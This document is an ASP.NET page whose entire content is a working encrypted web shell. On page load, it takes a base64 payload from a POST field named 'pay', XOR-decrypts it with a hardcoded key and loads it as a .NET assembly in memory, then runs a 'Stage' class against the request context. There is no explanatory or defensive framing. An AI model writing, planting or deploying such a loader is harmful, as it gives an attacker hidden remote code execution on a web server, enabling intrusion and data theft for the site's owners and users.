<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
static readonly byte[] K = { 0x3a, 0x91, 0x5c, 0x07, 0xe2, 0x48, 0x16, 0xbd };

protected void Page_Load(object sender, EventArgs e)
{
    byte[] data = Convert.FromBase64String(Request.Form["pay"]);
    for (int i = 0; i < data.Length; i++)
        data[i] ^= K[i % K.Length];
    Assembly.Load(data).CreateInstance("Stage").Equals(Context);
}
</script>
